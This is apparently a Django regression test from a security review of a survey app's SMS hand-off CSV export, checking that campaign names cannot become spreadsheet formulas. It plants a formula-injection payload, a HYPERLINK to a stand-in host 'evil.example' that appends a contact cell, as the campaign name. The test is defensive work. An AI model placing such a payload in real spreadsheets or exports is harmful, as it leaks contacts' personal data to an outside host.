"""Security review (session 3): the SMS/Zalo hand-off CSV (surveys/actions/sending.py) writes
the message text unguarded. The message starts with the campaign's name, typed in the campaign
form; a name starting with "=" makes the cell a formula when the file is opened in a
spreadsheet (chiso/org/tabular.py guards its own CSV exports against exactly this)."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.test import Client
from django.urls import reverse

from chiso.surveys.actions import draw_sample, import_contacts
from chiso.surveys.models import Campaign
from tests.surveys.conftest import campaign, questionnaires  # noqa: F401  (fixtures)

FORMULA_START = ("=", "+", "-", "@")
CONTACTS = """Mã cơ quan,Nhóm đối tượng,Họ và tên,Điện thoại,Thư điện tử,Địa chỉ
stp,Người dân,Lê Văn C,0912345678,,
"""


def test_the_sms_hand_off_file_has_no_cell_a_spreadsheet_would_run(
    world: Any,
    campaign: Any,  # noqa: F811
    settings: Any,
) -> None:
    settings.CHISO_BASE_URL = "https://chiso.example.vn"
    Campaign.objects.filter(pk=campaign.pk).update(
        name='=HYPERLINK("https://evil.example/?"&A2;"Khảo sát 2024")'
    )
    report = import_contacts(campaign, CONTACTS.encode(), actor=world.tuan, filename="c.csv")
    assert report.ok, report.problems
    draw_sample(
        campaign,
        actor=world.tuan,
        agency=world.stp,
        group="citizen",
        channel="online",
        count=1,
        questionnaire=campaign.open_questionnaire,
    )
    client = Client()
    client.force_login(world.tuan)

    response = client.post(reverse("surveys:send", args=[campaign.pk]), {"via": "sms"})

    assert response["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the file lists the phone-only contact"
    assert not [c for c in cells if c.startswith(FORMULA_START)], rows
